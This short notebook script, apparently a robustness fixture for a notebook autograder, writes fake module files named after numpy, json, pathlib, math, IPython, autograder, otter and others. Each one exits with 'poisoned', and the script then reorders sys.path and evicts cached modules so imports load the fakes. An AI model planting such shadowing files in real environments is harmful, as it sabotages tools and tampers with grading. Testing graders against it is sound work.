# %%
import sys
from pathlib import Path

BOMB = "raise SystemExit('poisoned')\n"
for name in ("numpy", "keras", "json", "msgspec", "zmq", "IPython", "pathlib", "math", "autograder", "otter"):
    Path(f"{name}.py").write_text(BOMB)
    Path(name).mkdir()
    Path(name, "__init__.py").write_text(BOMB)

# %%
import keras
from keras import layers

model = keras.Sequential([keras.Input((28, 28)), layers.Flatten(), layers.Dense(10)])
sys.path.insert(0, str(Path.cwd()))
for name in ("json", "math", "pathlib", "numpy"):
    sys.modules.pop(name, None)
